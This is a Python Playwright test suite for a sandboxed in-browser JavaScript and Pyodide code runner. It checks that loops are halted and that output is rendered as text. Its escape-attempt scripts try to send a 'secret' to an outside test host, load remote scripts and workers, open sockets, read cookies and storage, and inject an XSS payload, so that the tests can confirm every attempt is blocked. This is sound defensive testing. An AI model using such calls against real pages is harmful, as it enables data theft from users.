"""Code of a page is run: by whoever wants to, in the browser alone, and without a way out of it."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.fakes.server import Reply, Server, serving
from tests.journeys.conftest import Visit
from tests.journeys.house import House, findings
from tests.journeys.house import house as house_with

pytestmark = [pytest.mark.service("chromium"), pytest.mark.loopback, pytest.mark.timeout(180)]

OPEN = {"Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript"}
WAYS_OUT = """
const tries = {
  fetch: () => fetch(AT + "/fetch"),
  own: () => fetch(OWN + "/topics"),
  post: () => fetch(AT + "/post", { method: "POST", body: "secret", mode: "no-cors" }),
  xhr: () => new Promise((done, no) => {
    const one = new XMLHttpRequest(); one.onload = done; one.onerror = no; one.open("GET", AT + "/xhr"); one.send(); }),
  socket: () => new Promise((done, no) => {
    const one = new WebSocket(AT.replace("http", "ws") + "/ws"); one.onopen = done; one.onerror = no; }),
  source: () => new Promise((done, no) => {
    const one = new EventSource(AT + "/sse"); one.onopen = done; one.onerror = no; }),
  script: async () => importScripts(AT + "/script.js"),
  ours: async () => importScripts(OWN + "/static/web/keys.js?secret"),
  module: () => import(AT + "/module.js"),
  worker: () => new Promise((done, no) => {
    const one = new Worker(AT + "/worker.js"); one.onerror = no; setTimeout(done, 800); }),
  inner: () => new Promise((done, no) => {
    const text = `fetch("${AT}/inner").then(() => postMessage("out"), () => postMessage("shut"))`;
    const one = new Worker(URL.createObjectURL(new Blob([text])));
    one.onerror = no; one.onmessage = (e) => (e.data === "out" ? done() : no()); }),
  cookies: async () => document.cookie,
  store: async () => localStorage.getItem("x"),
  session: async () => sessionStorage.length,
  database: () => new Promise((done, no) => {
    const one = indexedDB.open("x"); one.onsuccess = done; one.onerror = no; }),
  caches: () => caches.open("x"),
  parent: async () => parent.document.title,
  top: async () => top.location,
  evaluated: async () => eval("1 + 1"),
};
for (const [name, attempt] of Object.entries(tries)) {
  try { await attempt(); console.log("OUT " + name); } catch { console.log("shut " + name); }
}
console.log("tried " + Object.keys(tries).length);
"""


@pytest.fixture(scope="module")
def room(house: House) -> str:
    return f"/topics/loops/code/{house.fill('coded', 'Loops')}"


@pytest.fixture
def page(visit: Visit, room: str) -> Page:
    return visit(room)


@pytest.fixture
def outside() -> Iterator[Server]:
    with serving(lambda request, *_: Reply(b"", headers=OPEN)) as server:
        yield server


def run(page: Page, code: str) -> None:
    page.locator(".program textarea").first.fill(code)
    page.get_by_role("button", name="Run").first.click()


def test_what_a_page_shows_is_run_and_says_its_words(page: Page) -> None:
    expect(page.locator(".program")).to_have_count(1)
    expect(page.locator(".note").last).to_contain_text("Python on this page can be read and not run")
    page.locator(".program textarea").focus()
    page.keyboard.press("Control+Enter")
    expect(page.locator(".program pre")).to_have_text("sum 6\n")
    expect(page.locator(".now")).to_have_text("It came to its end.")
    assert findings(page) == []


def test_it_is_reached_from_its_page_and_leads_back(visit: Visit, room: str) -> None:
    page = visit(room)
    page.get_by_role("link", name="Back to the page").click()
    expect(page.locator(".prose figure.code")).to_have_count(2)
    page.get_by_role("link", name="Run this").click()
    expect(page.locator(".program:target textarea")).to_have_value(
        "const leaves = [1, 2, 3];\n" + 'console.log("sum", leaves.reduce((a, b) => a + b, 0));'
    )


def test_an_endless_loop_and_a_flood_of_words_are_ended_while_the_page_goes_on(page: Page) -> None:
    run(page, 'console.log("on"); while (true) {}')
    expect(page.locator(".program pre")).to_have_text("on\n")
    page.get_by_role("button", name="As it was").click()
    expect(page.locator(".program textarea").first).to_have_value(
        "const leaves = [1, 2, 3];\n" + 'console.log("sum", leaves.reduce((a, b) => a + b, 0));'
    )
    expect(page.locator(".now")).to_have_text("Stopped after five seconds.", timeout=15_000)
    run(page, 'for (;;) console.log("x".repeat(100))')
    expect(page.locator(".now")).to_contain_text("Stopped", timeout=20_000)
    assert len(page.locator(".program pre").inner_text()) < 150_000
    run(page, "while (true) {}")
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".now")).to_have_text("Stopped.")


@pytest.mark.parametrize(
    ("code", "says", "ends"),
    [
        ("const a = ;", "SyntaxError: Unexpected token ';' (line 1)", "It failed."),
        ("\nnothing();", "ReferenceError: nothing is not defined", "It failed."),
        ('setTimeout(() => console.log("later"), 300)', "later", "It came to its end."),
        ("console.log(await Promise.resolve({ a: [1] }))", '{"a":[1]}', "It came to its end."),
        ('console.log("<img src=x onerror=alert(1)>")', "<img src=x onerror=alert(1)>", "It came to its end."),
        ("const b = 1;", "", "It came to its end. It said nothing."),
    ],
)  # fmt: skip
def test_what_code_says_is_told_in_words(page: Page, code: str, says: str, ends: str) -> None:
    run(page, code)
    expect(page.locator(".now")).to_have_text(ends)
    if says:
        expect(page.locator(".program pre")).to_contain_text(says)
    assert page.locator(".program pre img").count() == 0


def test_there_is_no_way_out(page: Page, house: House, outside: Server) -> None:
    asked: list[str] = []
    page.evaluate("localStorage.setItem('x', 'secret')")
    page.context.on("response", lambda reply: asked.append(f"{reply.request.method} {reply.url}"))
    run(page, f'const AT = "{outside.url}", OWN = "{house.address}";\n{WAYS_OUT}')
    expect(page.locator(".program pre")).to_contain_text("tried", timeout=20_000)
    said = page.locator(".program pre").inner_text()
    assert "OUT" not in said, said
    assert said.count("shut") == 19
    assert outside.requests == []
    ours = [one for one in asked if not one.startswith("GET blob:")]
    assert ours == [f"GET {house.address}/code/frame", f"GET {house.address}/static/code/frame.js"]


def test_nothing_reaches_the_page_that_runs_it(page: Page) -> None:
    """Messages of anybody else are not heard, and the frame has an origin of its own."""
    page.evaluate("window.postMessage(['said', 'forged'], '*')")
    run(page, "console.log(self.origin, typeof postMessage, typeof parent); await new Promise(() => 0)")
    expect(page.locator(".program pre")).to_have_text("null undefined undefined\n")
    assert page.frames[1].evaluate("origin") == "null"


PYODIDE = os.environ.get("SAPERE_TEST_PYODIDE", "")
PYTHON_WAYS_OUT = """
import js
from pyodide.http import pyfetch
from pyodide.code import run_js
tries = {
  "fetch": lambda: pyfetch(AT + "/fetch"),
  "own": lambda: pyfetch(OWN + "/topics"),
  "frame": lambda: pyfetch(OWN + "/code/frame"),
  "script": lambda: js.importScripts(AT + "/script.js"),
  "module": lambda: run_js(f"import('{AT}/module.js')"),
  "socket": lambda: run_js(f"new Promise((done, no) => {{ const one = new WebSocket('{AT}'.replace('http', 'ws')); one.onopen = done; one.onerror = no; }})"),
  "cookies": lambda: js.document.cookie,
  "store": lambda: js.localStorage.getItem("x"),
}
async def attempt(name, way):
    try:
        made = way()
        if hasattr(made, "__await__"):
            made = await made
        print("OUT", name)
    except BaseException:
        print("shut", name)

for name, way in tries.items():
    await attempt(name, way)

print("tried", len(tries))
"""


@pytest.fixture
def in_python(tmp_path: Path, browser: Browser) -> Iterator[tuple[Page, House]]:
    """The same page of a house whose operator has put Pyodide beside it."""
    if not PYODIDE:
        pytest.skip("SAPERE_TEST_PYODIDE names no folder with the files of Pyodide")
    with house_with(tmp_path, SAPERE_PYODIDE=PYODIDE) as one:
        page = browser.new_page()
        page.goto(f"{one.address}/topics/loops/code/{one.fill('coded', 'Loops')}")
        yield page, one
        page.close()


def run_python(page: Page, code: str) -> None:
    box = page.locator(".program", has=page.get_by_role("heading", name="Python"))
    box.locator("textarea").fill(code)
    box.get_by_role("button", name="Run").click()


def test_python_is_run_where_the_operator_has_put_it(in_python: tuple[Page, House]) -> None:
    page, _ = in_python
    box = page.locator(".program", has=page.get_by_role("heading", name="Python"))
    said, now = box.locator("pre"), box.locator(".now")
    for code, words, end in (
        ("import math\nmath.floor(2.5)\nprint('two')", "2\ntwo\n", "It came to its end."),
        ("async def one():\n    return 1\nawait one()", "1\n", "It came to its end."),
        ("1 / 0", "ZeroDivisionError: division by zero", "It failed."),
        (
            "from pyodide.ffi import to_js\nimport js\njs.postMessage(to_js(['ready']))\nwhile True: pass",
            "",
            "It failed.",
        ),
        ("while True: pass", "", "Stopped after five seconds."),
        ("for n in range(9_999): print(n)", "0\n1\n", "Stopped: it said too much."),
    ):
        run_python(page, code)
        expect(now).to_have_text(end, timeout=60_000)
        expect(said).to_contain_text(words)


def test_there_is_no_way_out_of_python(in_python: tuple[Page, House], outside: Server) -> None:
    page, one = in_python
    run_python(page, f'AT = "{outside.url}"\nOWN = "{one.address}"\n{PYTHON_WAYS_OUT}')
    said = page.locator(".program pre", has_text="tried 8")
    expect(said).to_be_visible(timeout=60_000)
    assert "OUT" not in said.inner_text(), said.inner_text()
    assert outside.requests == []


def test_without_script_it_is_said_why_it_does_not_run(visit: Visit, room: str) -> None:
    page = visit(room, java_script_enabled=False)
    expect(page.get_by_role("button", name="Run")).to_be_disabled()
    expect(page.locator(".coding .note").first).to_contain_text("scripts are switched off")
